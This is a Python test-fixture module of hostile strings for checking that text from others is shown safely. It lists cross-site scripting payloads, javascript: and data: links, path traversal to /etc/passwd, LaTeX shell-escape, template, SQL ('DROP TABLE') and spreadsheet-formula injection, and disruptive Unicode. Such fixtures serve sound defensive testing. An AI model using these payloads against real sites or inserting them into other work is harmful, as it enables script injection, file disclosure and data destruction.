"""Text that tries to run, to break out or to disturb, for every place that shows text of others.

``window.owned='owned'`` is what each would do if it ran: tests look whether it is there.
"""

_RUN = "window.owned='owned'"
_HOST = "https://example.org"

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea></title></style></noscript></script><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script src={_HOST}/x.js></script>",
    f"<script type=module>import('{_HOST}/x.js')</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞",  # wide brackets, which some filters narrow
)
_HANDLERS = (
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onmouseover={_RUN} x=`",
    f'x" tabindex=1 autofocus onfocus="{_RUN}',
    f"<a onclick={_RUN} style=position:fixed;inset:0>x</a>",
)
_LINKS = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f'<a href="javascript:{_RUN}">click</a>',
    "data:text/html,<script>top.owned=1</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9MTwvc2NyaXB0Pg==",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    f'{_HOST}/" onclick="{_RUN}',
    "https://user:secret@example.org\\@example.com/",
    "//example.org/x",
)
_EMBEDS = (
    f"<iframe src={_HOST}></iframe><link rel=stylesheet href={_HOST}/x.css>",
    f"<img src={_HOST}/pixel.png><style>@import '{_HOST}/y.css'</style>",
    f"<form action={_HOST}><input name=q autofocus></form><base href={_HOST}>",
    f"<object data={_HOST}></object><embed src={_HOST}>",
    f'<meta http-equiv=refresh content="0;url={_HOST}">',
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<style>*{{background:url({_HOST}/z.png)}}</style>",
    '<div style="position:fixed;inset:0;z-index:99;background:red">covered</div>',
    "<plaintext>",
    "<!--",
)
_TEMPLATES = (
    f"[click](javascript:{_RUN}) **bold** `code` $$x^2$$",
    f"![x]({_HOST}/pixel.png) <{_HOST}> [a]: {_HOST}",
    "| a | b |\n|---|---|\n# heading\n- item\n1. item\n> quote\n```\ncode\n```",
    "$\\input{/etc/passwd}$ \\write18{id} \\href{javascript:1}{x} %{}#_^~",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} @children",
    "{{7*7}} {% raw %} {#x#} {{{value}}} <%= 7*7 %> #{7*7} [[7*7]]",
    "&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp;&copy &quot;",
    "%3Cscript%3E %00 %0d%0aSet-Cookie:%20x=1 %2e%2e%2f",
    "../../../../etc/passwd",
    "=cmd|'/c calc'!A1\t@SUM(1)",
    "'; DROP TABLE article; --",
    'x"}],"quotes":[{"text":"forged',
)
_LETTERS = (
    "\u202eright to left\u2066 override\u2069\u202c",
    "\u200f\u200e\u061c\u202e marks \u2067isolated",
    "שלום עולם مرحبا",
    "e\u0301\u0323\u0338\u0301\u0323\u0338 İstanbul ß ﬃ",
    "Z\u0351\u036b\u0343\u036a\u0302\u0348" * 40,
    "\x00nul \x1b[31mescape \x7fdelete \x08back \x9bcsi",
    "\u2028line\u2029paragraph\x0bvertical\x0cfeed\x85next",
    "zero\u200bwidth\u200djoined\u2060word\ufeff",
    "W" * 3000,
    "wide " + "\N{FULLWIDTH LATIN CAPITAL LETTER W}" * 400,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 20,
    "\ue000\ufffe\uffff private and none",
)

ATTACKS = (*_SCRIPTS, *_HANDLERS, *_LINKS, *_EMBEDS, *_TEMPLATES, *_LETTERS)
